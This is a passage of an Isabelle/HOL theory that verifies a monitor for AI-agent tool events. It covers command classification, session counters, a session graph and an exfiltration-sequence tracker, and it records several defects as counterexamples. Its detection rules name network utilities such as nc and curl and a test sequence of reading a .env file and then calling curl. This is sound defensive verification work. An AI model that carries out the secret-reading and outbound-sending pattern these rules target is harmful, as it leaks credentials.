  and is classified as network access, because \<open>nc\<close> occurs inside it.
\<close>

theorem classify_event_first_token_counterexample:
  "classify_event (Event 0 ''s1'' 0 ''PreToolUse'' (Some ''CustomTool'')
      (Some [(''command'', JStr ''sync'')])) = Inr NETWORK_ACCESS
   \<and> \<not> spec_first_token_is_network_utility ''sync''"
  by (simp add: classify_event_def Event_def tool_lookup_def TOOL_CATEGORY_MAP_def has_key_def
      dict_get_def is_network_command_def network_commands_def str_lower_def lower_char_def
      spec_first_token_is_network_utility_def py_split_def is_space_def sublist_code)

text \<open>
  Claim C3, amended. For an event whose tool name is not in the tool-to-category mapping
  and whose tool input has a string under \<open>command\<close> and neither \<open>file_path\<close> nor
  \<open>path\<close>, \<open>classify_event\<close> returns network access exactly when the lower-cased
  command contains the name of a known network utility anywhere as a substring, and command
  execution otherwise.
\<close>

theorem classify_event_command:
  assumes "tool_lookup (e_tool_name ev) = None"
    and "e_tool_input ev = Some d"
    and "map_of d ''command'' = Some (JStr c)"
    and "\<not> has_key d ''file_path''" and "\<not> has_key d ''path''"
  shows "classify_event ev =
           Inr (if (\<exists>cmd \<in> set network_commands. sublist cmd (str_lower c))
                then NETWORK_ACCESS else COMMAND_EXEC)"
  using assms
  by (simp add: classify_event_def has_key_def dict_get_def is_network_command_def list_ex_iff)

text \<open>Witness for C3: the command of the repository's own test, under an unknown tool.\<close>

theorem classify_event_command_witness:
  "classify_event (Event 0 ''s1'' 0 ''PreToolUse'' (Some ''CustomTool'')
      (Some [(''command'', JStr ''curl https://example.com'')])) = Inr NETWORK_ACCESS"
  using classify_event_command [of "Event 0 ''s1'' 0 ''PreToolUse'' (Some ''CustomTool'')
      (Some [(''command'', JStr ''curl https://example.com'')])"
      "[(''command'', JStr ''curl https://example.com'')]" "''curl https://example.com''"]
  by (simp add: Event_def tool_lookup_def TOOL_CATEGORY_MAP_def has_key_def
      network_commands_def str_lower_def lower_char_def sublist_code)
subsection \<open>Session counters\<close>

lemma update_sessions_where_nth:
  "i < length (db_sessions db) \<Longrightarrow>
   db_sessions (update_sessions_where sid f db) ! i =
     (if s_session_id (db_sessions db ! i) = sid then f (db_sessions db ! i)
      else db_sessions db ! i)"
  by (simp add: update_sessions_where_def)

lemma update_sessions_where_frame:
  "db_events (update_sessions_where sid f db) = db_events db"
  "db_alerts (update_sessions_where sid f db) = db_alerts db"
  "db_policies (update_sessions_where sid f db) = db_policies db"
  "db_graph_nodes (update_sessions_where sid f db) = db_graph_nodes db"
  "db_graph_edges (update_sessions_where sid f db) = db_graph_edges db"
  "length (db_sessions (update_sessions_where sid f db)) = length (db_sessions db)"
  by (simp_all add: update_sessions_where_def)

lemma update_sessions_where_set:
  assumes "s \<in> set (db_sessions (update_sessions_where sid f db))"
    and "s_session_id s = sid" and "\<And>x. s_session_id (f x) = s_session_id x"
  shows "\<exists>x \<in> set (db_sessions db). s_session_id x = sid \<and> s = f x"
proof -
  from assms(1) obtain x where x: "x \<in> set (db_sessions db)"
    and s: "s = (if s_session_id x = sid then f x else x)"
    by (auto simp: update_sessions_where_def)
  show ?thesis
  proof (cases "s_session_id x = sid")
    case True with x s show ?thesis by auto
  next
    case False with s assms(2) show ?thesis by simp
  qed
qed

text \<open>
  Claim C10. \<open>increment_session_event_count\<close> rewrites every row of the session: the
  event count grows by one, the status becomes active and the end time is cleared; rows of
  other sessions and the other tables are unchanged. Hence, whatever the state of the
  session before, and in particular after \<open>end_session\<close> has marked it ended, it is
  active with no end time once an event has been counted for it; the same holds after the
  stale-session reaper \<open>cleanup_stale_sessions\<close>.
\<close>

theorem increment_session_event_count_reopens:
  "length (db_sessions (increment_session_event_count db sid)) = length (db_sessions db)
   \<and> (\<forall>i < length (db_sessions db).
        db_sessions (increment_session_event_count db sid) ! i =
          (if s_session_id (db_sessions db ! i) = sid
           then (db_sessions db ! i)
                  \<lparr>s_event_count := s_event_count (db_sessions db ! i) + 1,
                   s_status := ''active'', s_ended_at := None\<rparr>
           else db_sessions db ! i))
   \<and> db_events (increment_session_event_count db sid) = db_events db
   \<and> db_alerts (increment_session_event_count db sid) = db_alerts db
   \<and> db_graph_nodes (increment_session_event_count db sid) = db_graph_nodes db
   \<and> db_graph_edges (increment_session_event_count db sid) = db_graph_edges db
   \<and> (\<forall>s \<in> set (db_sessions (end_session db now sid)).
        s_session_id s = sid \<longrightarrow> s_status s = ''ended'' \<and> s_ended_at s = Some now)
   \<and> (\<forall>s \<in> set (db_sessions (increment_session_event_count (end_session db now sid) sid)).
        s_session_id s = sid \<longrightarrow> s_status s = ''active'' \<and> s_ended_at s = None)
   \<and> (\<forall>s \<in> set (db_sessions (increment_session_event_count
                                   (fst (cleanup_stale_sessions db now mins)) sid)).
        s_session_id s = sid \<longrightarrow> s_status s = ''active'' \<and> s_ended_at s = None)"
proof -
  have a: "s_status s = ''ended'' \<and> s_ended_at s = Some now"
    if "s \<in> set (db_sessions (end_session db now sid))" "s_session_id s = sid" for s
  proof -
    from update_sessions_where_set[OF that[unfolded end_session_def]]
    obtain x where "s = x\<lparr>s_ended_at := Some now, s_status := ''ended''\<rparr>" by auto
    then show ?thesis by simp
  qed
  have b: "s_status s = ''active'' \<and> s_ended_at s = None"
    if "s \<in> set (db_sessions (increment_session_event_count db' sid))" "s_session_id s = sid"
    for s db'
  proof -
    from update_sessions_where_set[OF that[unfolded increment_session_event_count_def]]
    obtain x where "s = x\<lparr>s_event_count := s_event_count x + 1, s_status := ''active'',
                          s_ended_at := None\<rparr>" by auto
    then show ?thesis by simp
  qed
  have c: "\<forall>i < length (db_sessions db).
        db_sessions (increment_session_event_count db sid) ! i =
          (if s_session_id (db_sessions db ! i) = sid
           then (db_sessions db ! i)
                  \<lparr>s_event_count := s_event_count (db_sessions db ! i) + 1,
                   s_status := ''active'', s_ended_at := None\<rparr>
           else db_sessions db ! i)"
    by (simp add: increment_session_event_count_def update_sessions_where_nth)
  have d: "length (db_sessions (increment_session_event_count db sid)) = length (db_sessions db)"
    "db_events (increment_session_event_count db sid) = db_events db"
    "db_alerts (increment_session_event_count db sid) = db_alerts db"
    "db_graph_nodes (increment_session_event_count db sid) = db_graph_nodes db"
    "db_graph_edges (increment_session_event_count db sid) = db_graph_edges db"
    by (simp_all add: increment_session_event_count_def update_sessions_where_frame)
  from a b c d show ?thesis by blast
qed

text \<open>Witness for C10: the ended session of \<open>ended_db\<close> is active after one more event.\<close>

theorem increment_session_event_count_reopens_witness:
  "s_status (db_sessions ended_db ! 0) = ''ended''
   \<and> s_ended_at (db_sessions ended_db ! 0) = Some 50
   \<and> s_status (db_sessions (increment_session_event_count ended_db ''s1'') ! 0) = ''active''
   \<and> s_ended_at (db_sessions (increment_session_event_count ended_db ''s1'') ! 0) = None
   \<and> s_event_count (db_sessions (increment_session_event_count ended_db ''s1'') ! 0) = 1"
proof -
  have e: "db_sessions ended_db =
             [(Session 1 ''s1'' 0)\<lparr>s_ended_at := Some 50, s_status := ''ended''\<rparr>]"
    by (simp add: ended_db_def end_session_def update_sessions_where_def empty_database_def
        Session_def)
  from increment_session_event_count_reopens [of ended_db "''s1''" 0]
  have "\<forall>i < length (db_sessions ended_db).
        db_sessions (increment_session_event_count ended_db ''s1'') ! i =
          (if s_session_id (db_sessions ended_db ! i) = ''s1''
           then (db_sessions ended_db ! i)
                  \<lparr>s_event_count := s_event_count (db_sessions ended_db ! i) + 1,
                   s_status := ''active'', s_ended_at := None\<rparr>
           else db_sessions ended_db ! i)"
    by blast
  from this[rule_format, of 0] e show ?thesis
    by (simp add: Session_def)
qed

subsection \<open>Session graph\<close>

text \<open>
  Claim C9 at the store \<open>two_sessions_graph\<close>, which the graph builder leaves when
  session \<open>s1\<close> and then session \<open>s2\<close> run \<open>ls\<close>: the process node \<open>ls\<close> (id 6) is
  shared, and its \<open>session_ids\<close> now name \<open>s2\<close> alone. The query for session \<open>s1\<close>
  returns the session, tool and command-group nodes of \<open>s1\<close>, and with them the edge
  from the command group to node 6, an endpoint that is not in the returned node set.
\<close>

theorem get_session_graph_dangling_edge:
  "map n_id (fst (get_session_graph two_sessions_graph ''s1'')) = [1, 2, 4]
   \<and> map edge_key (snd (get_session_graph two_sessions_graph ''s1''))
       = [(1, 2, USES), (2, 4, EXECUTES), (4, 6, EXECUTES)]
   \<and> (6::nat) \<notin> set (map n_id (fst (get_session_graph two_sessions_graph ''s1'')))"
  by code_simp

subsection \<open>Sequence tracker: deduplication\<close>

lemma check_rules_fired:
  "check_rules re tr sid now rules fired = (fired1, matches) \<Longrightarrow>
   fired1 = fired \<union> (\<lambda>m. (r_id (fst m), sid)) ` set matches"
proof (induction rules arbitrary: fired fired1 matches)
  case Nil
  then show ?case by simp
next
  case (Cons rule rules)
  show ?case
  proof (cases "check_rule re tr rule sid now")
    case None
    with Cons show ?thesis by simp
  next
    case (Some result)
    show ?thesis
    proof (cases "(r_id rule, sid) \<in> fired")
      case True
      with Some Cons show ?thesis by simp
    next
      case False
      obtain f2 ms where r: "check_rules re tr sid now rules (insert (r_id rule, sid) fired) = (f2, ms)"
        by (cases "check_rules re tr sid now rules (insert (r_id rule, sid) fired)")
      with Some False Cons.prems have "fired1 = f2" "matches = (rule, result) # ms" by simp_all
      with Cons.IH[OF r] show ?thesis by auto
    qed
  qed
qed

lemma check_rules_fresh:
  "check_rules re tr sid now rules fired = (fired1, matches) \<Longrightarrow>
   distinct (map (\<lambda>m. r_id (fst m)) matches)
   \<and> (\<forall>m \<in> set matches. (r_id (fst m), sid) \<notin> fired)"
proof (induction rules arbitrary: fired fired1 matches)
  case Nil
  then show ?case by simp
next
  case (Cons rule rules)
  show ?case
  proof (cases "check_rule re tr rule sid now")
    case None
    with Cons show ?thesis by simp
  next
    case (Some result)
    show ?thesis
    proof (cases "(r_id rule, sid) \<in> fired")
      case True
      with Some Cons show ?thesis by simp
    next
      case False
      obtain f2 ms where r: "check_rules re tr sid now rules (insert (r_id rule, sid) fired) = (f2, ms)"
        by (cases "check_rules re tr sid now rules (insert (r_id rule, sid) fired)")
      with Some False Cons.prems have m: "matches = (rule, result) # ms" by simp
      from Cons.IH[OF r] have d: "distinct (map (\<lambda>m. r_id (fst m)) ms)"
        and f: "\<forall>m \<in> set ms. (r_id (fst m), sid) \<notin> insert (r_id rule, sid) fired"
        by simp_all
      from f have "r_id rule \<notin> (\<lambda>m. r_id (fst m)) ` set ms" by auto
      with d f False m show ?thesis by auto
    qed
  qed
qed

lemma track_event_fired:
  assumes "track_event re tr eid sid ts data = (tr1, matches)"
  shows "t_fired tr1 = t_fired tr \<union> (\<lambda>m. (r_id (fst m), sid)) ` set matches"
    and "distinct (map (\<lambda>m. r_id (fst m)) matches)"
    and "\<forall>m \<in> set matches. (r_id (fst m), sid) \<notin> t_fired tr"
proof -
  let ?tr1 = "tr\<lparr>t_buffers := (t_buffers tr)(sid \<mapsto>
      dropWhile (\<lambda>e. be_timestamp e < ts - max_window (t_rules tr) * 1000000)
        (deque_append (t_max_buffer_size tr) (session_buffer tr sid)
           \<lparr>be_event_id = eid, be_timestamp = ts, be_data = data\<rparr>))\<rparr>"
  obtain f ms where c: "check_rules re ?tr1 sid ts (t_rules tr) (t_fired tr) = (f, ms)"
    by (cases "check_rules re ?tr1 sid ts (t_rules tr) (t_fired tr)")
  with assms have e: "tr1 = ?tr1\<lparr>t_fired := f\<rparr>" "matches = ms"
    by (simp_all add: track_event_def Let_def)
  from check_rules_fired[OF c] e
  show "t_fired tr1 = t_fired tr \<union> (\<lambda>m. (r_id (fst m), sid)) ` set matches" by simp
  from check_rules_fresh[OF c] e
  show "distinct (map (\<lambda>m. r_id (fst m)) matches)"
    and "\<forall>m \<in> set matches. (r_id (fst m), sid) \<notin> t_fired tr" by simp_all
qed

lemma fired_log_already_fired:
  "(R, S) \<in> t_fired tr \<Longrightarrow> Reset S \<notin> set calls \<Longrightarrow> (R, S) \<notin> set (fired_log re tr calls)"
proof (induction calls arbitrary: tr)
  case Nil
  then show ?case by simp
next
  case (Cons call calls)
  show ?case
  proof (cases call)
    case (Track eid sid ts data)
    obtain tr1 ms where t: "track_event re tr eid sid ts data = (tr1, ms)"
      by (cases "track_event re tr eid sid ts data")
    from track_event_fired[OF t] Cons.prems(1)
    have in1: "(R, S) \<in> t_fired tr1" and
      new: "(R, S) \<notin> (\<lambda>m. (r_id (fst m), sid)) ` set ms"
      by auto
    from Cons.IH[OF in1] Cons.prems(2) have "(R, S) \<notin> set (fired_log re tr1 calls)" by simp
    with new t Track show ?thesis by simp
  next
    case (Reset sid)
    with Cons.prems have "(R, S) \<in> t_fired (reset_session tr sid)"
      by (simp add: reset_session_def)
    from Cons.IH[OF this] Cons.prems(2) Reset show ?thesis by simp
  next
    case (Load rules)
    with Cons.prems have "(R, S) \<in> t_fired (load_rules tr rules)"
      by (simp add: load_rules_def)
    from Cons.IH[OF this] Cons.prems(2) Load show ?thesis by simp
  qed
qed

lemma count_list_distinct_map:
  "distinct (map f xs) \<Longrightarrow> count_list (map g xs) y \<le> 1"
  if "\<And>a b. g a = g b \<Longrightarrow> f a = f b"
proof (induction xs)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  show ?case
  proof (cases "g x = y")
    case True
    have "count_list (map g xs) y = 0"
    proof (rule ccontr)
      assume "count_list (map g xs) y \<noteq> 0"
      then have "y \<in> set (map g xs)" by (metis count_notin)
      then obtain z where "z \<in> set xs" "g z = y" by auto
      with True that[of x z] have "f x \<in> f ` set xs" by force
      with Cons.prems show False by simp
    qed
    with True show ?thesis by simp
  next
    case False
    with Cons show ?thesis by simp
  qed
qed

lemma fired_log_at_most_once:
  "Reset S \<notin> set calls \<Longrightarrow> count_list (fired_log re tr calls) (R, S) \<le> 1"
proof (induction calls arbitrary: tr)
  case Nil
  then show ?case by simp
next
  case (Cons call calls)
  show ?case
  proof (cases call)
    case (Track eid sid ts data)
    obtain tr1 ms where t: "track_event re tr eid sid ts data = (tr1, ms)"
      by (cases "track_event re tr eid sid ts data")
    let ?new = "map (\<lambda>m. (r_id (fst m), sid)) ms"
    have one: "count_list ?new (R, S) \<le> 1"
      by (rule count_list_distinct_map[OF _ track_event_fired(2)[OF t]]) simp
    have rest: "count_list (fired_log re tr1 calls) (R, S) \<le> 1"
      using Cons.IH Cons.prems by simp
    have "count_list (fired_log re tr1 calls) (R, S) = 0" if "count_list ?new (R, S) \<noteq> 0"
    proof -
      from that have "(R, S) \<in> set ?new" by (metis count_notin)
      with track_event_fired(1)[OF t] have "(R, S) \<in> t_fired tr1" by auto
      from fired_log_already_fired[OF this] Cons.prems
      show ?thesis by (simp add: count_list_0_iff)
    qed
    with one rest have "count_list ?new (R, S) + count_list (fired_log re tr1 calls) (R, S) \<le> 1"
      by (cases "count_list ?new (R, S) = 0") auto
    with t Track show ?thesis by simp
  next
    case (Reset sid)
    with Cons show ?thesis by simp
  next
    case (Load rules)
    with Cons show ?thesis by simp
  qed
qed

text \<open>
  Claim C4. Along any sequence of calls to a tracker that contains no \<open>reset_session(S)\<close>,
  \<open>track_event\<close> returns a match for the pair (R, S) at most once, and never if the pair
  is in the fired set at the start; each \<open>track_event\<close> adds to the fired set exactly the
  pairs it returns. \<open>reset_session(S)\<close> removes the buffer of S and every fired entry of S,
  and leaves the buffers and fired entries of the other sessions as they are.
\<close>

theorem track_event_fires_once:
  "(Reset S \<notin> set calls \<longrightarrow> count_list (fired_log re tr calls) (R, S) \<le> 1)
   \<and> (Reset S \<notin> set calls \<and> (R, S) \<in> t_fired tr \<longrightarrow> (R, S) \<notin> set (fired_log re tr calls))
   \<and> t_fired (fst (track_event re tr eid sid ts data)) =
        t_fired tr \<union> (\<lambda>m. (r_id (fst m), sid)) ` set (snd (track_event re tr eid sid ts data))
   \<and> t_buffers (reset_session tr S) S = None
   \<and> (\<forall>R'. (R', S) \<notin> t_fired (reset_session tr S))
   \<and> (\<forall>S'. S' \<noteq> S \<longrightarrow>
         t_buffers (reset_session tr S) S' = t_buffers tr S'
         \<and> (\<forall>R'. ((R', S') \<in> t_fired (reset_session tr S)) = ((R', S') \<in> t_fired tr)))"
proof -
  have "t_fired (fst (track_event re tr eid sid ts data)) =
        t_fired tr \<union> (\<lambda>m. (r_id (fst m), sid)) ` set (snd (track_event re tr eid sid ts data))"
    by (rule track_event_fired(1)) simp
  then show ?thesis
    using fired_log_at_most_once[of S calls re tr R] fired_log_already_fired[of R S tr calls re]
    by (simp add: reset_session_def)
qed
text \<open>
  Witness for C4, after the dedup and reset tests: read .env, curl, read .env, curl in one
  session fires the rule once; with \<open>reset_session\<close> after the first pair it fires again.
\<close>

lemma dedup_log:
  "fired_log literal_search (exfil_tracker True 300)
     [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data,
      Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]
   = [(''SEQ-TEST-001'', ''s1'')]"
  by code_simp

lemma reset_log:
  "fired_log literal_search (exfil_tracker True 300)
     [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data, Reset ''s1'',
      Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]
   = [(''SEQ-TEST-001'', ''s1''), (''SEQ-TEST-001'', ''s1'')]"
  by code_simp

theorem track_event_fires_once_witness:
  "Reset ''s1'' \<notin> set [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data,
      Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]
   \<and> count_list (fired_log literal_search (exfil_tracker True 300)
        [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data,
         Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data])
        (''SEQ-TEST-001'', ''s1'') \<le> 1
   \<and> fired_log literal_search (exfil_tracker True 300)
        [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data,
         Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]
       = [(''SEQ-TEST-001'', ''s1'')]
   \<and> fired_log literal_search (exfil_tracker True 300)
        [Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data, Reset ''s1'',
         Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]
       = [(''SEQ-TEST-001'', ''s1''), (''SEQ-TEST-001'', ''s1'')]"
proof -
  let ?calls = "[Track 1 ''s1'' 0 read_env_data, Track 2 ''s1'' 10000000 curl_data,
      Track 3 ''s1'' 20000000 read_env_data, Track 4 ''s1'' 30000000 curl_data]"
  have n: "Reset ''s1'' \<notin> set ?calls" by simp
  have "Reset ''s1'' \<notin> set ?calls \<longrightarrow>
        count_list (fired_log literal_search (exfil_tracker True 300) ?calls)
          (''SEQ-TEST-001'', ''s1'') \<le> 1"
    by (rule track_event_fires_once [of "''s1''" ?calls literal_search "exfil_tracker True 300"
      "''SEQ-TEST-001''" 0 "''s1''" 0 "[]", THEN conjunct1])
  with n have c: "count_list (fired_log literal_search (exfil_tracker True 300) ?calls)
          (''SEQ-TEST-001'', ''s1'') \<le> 1"
    by (rule rev_mp)
  from n c dedup_log reset_log show ?thesis by (intro conjI)
qed

subsection \<open>Sequence tracker: time window and order\<close>

lemma find_sort_key_least:
  assumes "find P (sort_key f xs) = Some e"
  shows "e \<in> set xs" and "P e" and "\<forall>x \<in> set xs. P x \<longrightarrow> f e \<le> f x"
proof -
  let ?ys = "sort_key f xs"
  from assms obtain i where i: "i < length ?ys" "P (?ys ! i)" "e = ?ys ! i"
    and before: "\<forall>j < i. \<not> P (?ys ! j)"
    by (auto simp: find_Some_iff)
  from i show "e \<in> set xs" by (metis nth_mem set_sort)
  from i show "P e" by simp
  show "\<forall>x \<in> set xs. P x \<longrightarrow> f e \<le> f x"
  proof (intro ballI impI)
    fix x assume "x \<in> set xs" "P x"
    then obtain k where k: "k < length ?ys" "x = ?ys ! k"
      by (metis in_set_conv_nth set_sort)
    with before \<open>P x\<close> have "i \<le> k" by (meson not_le)
    have "sorted (map f ?ys)" by simp
    with \<open>i \<le> k\<close> k(1) have "map f ?ys ! i \<le> map f ?ys ! k"
      by (simp add: sorted_iff_nth_mono)
    with i k \<open>i \<le> k\<close> show "f e \<le> f x" by simp
  qed
qed

lemma find_ordered_from_sound:
  "find_ordered_from last_time sm = Some res \<Longrightarrow>
   list_all2 (\<lambda>c m. c \<in> set m) res sm \<and> sorted (map be_timestamp res)
   \<and> (\<forall>c \<in> set res. not_before last_time c)"
proof (induction sm arbitrary: last_time res)
  case Nil
  then show ?case by simp
next
  case (Cons m sm)
  from Cons.prems obtain e r where e: "find (not_before last_time) (sort_key be_timestamp m) = Some e"
    and r: "find_ordered_from (Some (be_timestamp e)) sm = Some r" and res: "res = e # r"
    by (auto split: option.splits)
  from Cons.IH[OF r] have ih: "list_all2 (\<lambda>c m. c \<in> set m) r sm" "sorted (map be_timestamp r)"
    "\<forall>c \<in> set r. be_timestamp e \<le> be_timestamp c"
    by (simp_all add: not_before_def)
  from find_sort_key_least[OF e] have em: "e \<in> set m" and pe: "not_before last_time e" by simp_all
  have "\<forall>c \<in> set r. not_before last_time c"
    using ih(3) pe by (auto simp: not_before_def split: option.splits)
  with ih em pe res show ?case by simp
qed

lemma find_ordered_from_complete:
  "list_all2 (\<lambda>c m. c \<in> set m) cs sm \<Longrightarrow> sorted (map be_timestamp cs) \<Longrightarrow>
   \<forall>c \<in> set cs. not_before last_time c \<Longrightarrow>
   find_ordered_from last_time sm \<noteq> None"
proof (induction sm arbitrary: last_time cs)
  case Nil
  then show ?case by simp
next
  case (Cons m sm)
  from Cons.prems(1) obtain c cs' where cs: "cs = c # cs'" and cm: "c \<in> set m"
    and rest: "list_all2 (\<lambda>c m. c \<in> set m) cs' sm"
    by (auto simp: list_all2_Cons2)
  from Cons.prems(3) cs have pc: "not_before last_time c" by simp
  with cm have "find (not_before last_time) (sort_key be_timestamp m) \<noteq> None"
    by (auto simp: find_None_iff)
  then obtain e where e: "find (not_before last_time) (sort_key be_timestamp m) = Some e" by auto
  from find_sort_key_least(3)[OF e] cm pc have le: "be_timestamp e \<le> be_timestamp c" by simp
  from Cons.prems(2) cs have s': "sorted (map be_timestamp cs')"
    and "\<forall>x \<in> set cs'. be_timestamp c \<le> be_timestamp x" by auto
  with le have "\<forall>x \<in> set cs'. not_before (Some (be_timestamp e)) x"
    by (auto simp: not_before_def)
  from Cons.IH[OF rest s' this] e show ?case by auto
qed

lemma find_ordered_match_iff:
  "find_ordered_match sm \<noteq> None \<longleftrightarrow>
     (\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs sm \<and> sorted (map be_timestamp cs))"
proof
  assume "find_ordered_match sm \<noteq> None"
  then obtain res where "find_ordered_from None sm = Some res"
    by (auto simp: find_ordered_match_def)
  from find_ordered_from_sound[OF this] show
    "\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs sm \<and> sorted (map be_timestamp cs)" by blast
next
  assume "\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs sm \<and> sorted (map be_timestamp cs)"
  then obtain cs where "list_all2 (\<lambda>c m. c \<in> set m) cs sm" "sorted (map be_timestamp cs)"
    by blast
  from find_ordered_from_complete[OF this, of None] show "find_ordered_match sm \<noteq> None"
    by (simp add: find_ordered_match_def not_before_def)
qed

lemma step_matches_member:
  assumes "i < length (r_steps rule)" and "c \<in> set (step_matches re tr rule sid now ! i)"
  shows "c \<in> set (session_buffer tr sid)"
    and "be_timestamp c \<ge> window_cutoff rule now"
    and "matches_step re (r_steps rule ! i) (be_data c)"
  using assms by (simp_all add: step_matches_def window_events_def)

lemma check_rule_result:
  assumes "check_rule re tr rule sid now = Some res"
  shows "list_all2 (\<lambda>c m. c \<in> set m) res (step_matches re tr rule sid now)"
    and "r_ordered rule \<Longrightarrow> sorted (map be_timestamp res)"
proof -
  let ?sm = "step_matches re tr rule sid now"
  from assms have ne: "\<forall>m \<in> set ?sm. m \<noteq> []"
    by (auto simp: check_rule_def list_ex_iff split: if_splits)
  show "list_all2 (\<lambda>c m. c \<in> set m) res ?sm"
  proof (cases "r_ordered rule")
    case True
    with assms have "find_ordered_from None ?sm = Some res"
      by (simp add: check_rule_def find_ordered_match_def split: if_splits)
    from find_ordered_from_sound[OF this] show ?thesis by simp
  next
    case False
    with assms have "res = map hd ?sm" by (simp add: check_rule_def split: if_splits)
    with ne show ?thesis by (simp add: list_all2_conv_all_nth)
  qed
  show "sorted (map be_timestamp res)" if "r_ordered rule"
  proof -
    from that assms have "find_ordered_from None ?sm = Some res"
      by (simp add: check_rule_def find_ordered_match_def split: if_splits)
    from find_ordered_from_sound[OF this] show ?thesis by simp
  qed
qed

lemma step_matches_nonempty_window:
  assumes "m \<in> set (step_matches re tr rule sid now)" and "m \<noteq> []"
  shows "window_events tr rule sid now \<noteq> []" and "session_buffer tr sid \<noteq> []"
proof -
  from assms obtain step where "m = filter (\<lambda>e. matches_step re step (be_data e))
      (window_events tr rule sid now)"
    by (auto simp: step_matches_def)
  with assms(2) show w: "window_events tr rule sid now \<noteq> []" by auto
  then show "session_buffer tr sid \<noteq> []" by (auto simp: window_events_def)
qed

lemma check_rule_fires_iff:
  "check_rule re tr rule sid now \<noteq> None \<longleftrightarrow>
     window_events tr rule sid now \<noteq> []
     \<and> (\<forall>m \<in> set (step_matches re tr rule sid now). m \<noteq> [])
     \<and> (r_ordered rule \<longrightarrow>
          (\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs (step_matches re tr rule sid now)
                \<and> sorted (map be_timestamp cs)))"
proof -
  have w: "window_events tr rule sid now \<noteq> [] \<Longrightarrow> session_buffer tr sid \<noteq> []"
    by (auto simp: window_events_def)
  show ?thesis
    using w find_ordered_match_iff[of "step_matches re tr rule sid now"]
    by (auto simp: check_rule_def list_ex_iff)
qed

text \<open>
  Claim C5. When \<open>_check_rule\<close> returns events, there is one per step, each in the session
  buffer, matching its step and not older than the current timestamp minus the rule's time
  window; for an ordered rule their timestamps are non-decreasing in step order. A step all
  of whose matching events in the buffer are older than the window keeps the rule from
  firing. An ordered rule fires exactly when its window has events and one match per step
  can be picked with non-decreasing timestamps; the same rule with \<open>ordered=false\<close> fires
  exactly when its window has events and every step has a match, whatever their order.
\<close>

theorem check_rule_window_and_order:
  "(check_rule re tr rule sid now = Some res \<longrightarrow>
      length res = length (r_steps rule)
      \<and> (\<forall>i < length res.
            res ! i \<in> set (session_buffer tr sid)
            \<and> be_timestamp (res ! i) \<ge> now - r_time_window_seconds rule * 1000000
            \<and> matches_step re (r_steps rule ! i) (be_data (res ! i)))
      \<and> (r_ordered rule \<longrightarrow> sorted (map be_timestamp res)))
   \<and> ((\<exists>step \<in> set (r_steps rule). \<forall>e \<in> set (session_buffer tr sid).
          matches_step re step (be_data e) \<longrightarrow>
            be_timestamp e < now - r_time_window_seconds rule * 1000000)
        \<longrightarrow> check_rule re tr rule sid now = None)
   \<and> (r_ordered rule \<longrightarrow>
        (check_rule re tr rule sid now \<noteq> None) =
          (window_events tr rule sid now \<noteq> []
           \<and> (\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs (step_matches re tr rule sid now)
                  \<and> sorted (map be_timestamp cs))))
   \<and> (check_rule re tr (rule\<lparr>r_ordered := False\<rparr>) sid now \<noteq> None) =
        (window_events tr rule sid now \<noteq> []
         \<and> (\<forall>m \<in> set (step_matches re tr rule sid now). m \<noteq> []))"
proof -
  have A: "length res = length (r_steps rule)
      \<and> (\<forall>i < length res.
            res ! i \<in> set (session_buffer tr sid)
            \<and> be_timestamp (res ! i) \<ge> now - r_time_window_seconds rule * 1000000
            \<and> matches_step re (r_steps rule ! i) (be_data (res ! i)))
      \<and> (r_ordered rule \<longrightarrow> sorted (map be_timestamp res))"
    if h: "check_rule re tr rule sid now = Some res"
  proof -
    from check_rule_result(1)[OF h]
    have len: "length res = length (r_steps rule)"
      and mem: "\<And>i. i < length res \<Longrightarrow> res ! i \<in> set (step_matches re tr rule sid now ! i)"
      by (auto simp: list_all2_conv_all_nth step_matches_def)
    have "res ! i \<in> set (session_buffer tr sid)
            \<and> be_timestamp (res ! i) \<ge> now - r_time_window_seconds rule * 1000000
            \<and> matches_step re (r_steps rule ! i) (be_data (res ! i))" if "i < length res" for i
      using step_matches_member[OF _ mem[OF that]] that len by (simp add: window_cutoff_def)
    with len check_rule_result(2)[OF h] show ?thesis by blast
  qed
  have B: "check_rule re tr rule sid now = None"
    if "\<exists>step \<in> set (r_steps rule). \<forall>e \<in> set (session_buffer tr sid).
          matches_step re step (be_data e) \<longrightarrow>
            be_timestamp e < now - r_time_window_seconds rule * 1000000"
  proof -
    from that obtain step where s: "step \<in> set (r_steps rule)"
      and o: "\<forall>e \<in> set (session_buffer tr sid). matches_step re step (be_data e) \<longrightarrow>
            be_timestamp e < now - r_time_window_seconds rule * 1000000" by blast
    have "filter (\<lambda>e. matches_step re step (be_data e)) (window_events tr rule sid now) = []"
      using o by (auto simp: window_events_def window_cutoff_def filter_empty_conv)
    with s have "[] \<in> set (step_matches re tr rule sid now)"
      by (force simp: step_matches_def)
    then show ?thesis using check_rule_fires_iff[of re tr rule sid now] by blast
  qed
  have C: "(check_rule re tr rule sid now \<noteq> None) =
          (window_events tr rule sid now \<noteq> []
           \<and> (\<exists>cs. list_all2 (\<lambda>c m. c \<in> set m) cs (step_matches re tr rule sid now)
                  \<and> sorted (map be_timestamp cs)))" if o: "r_ordered rule"
  proof -
    have "\<forall>m \<in> set (step_matches re tr rule sid now). m \<noteq> []"
      if "list_all2 (\<lambda>c m. c \<in> set m) cs (step_matches re tr rule sid now)" for cs
      using that by (fastforce simp: list_all2_conv_all_nth in_set_conv_nth)
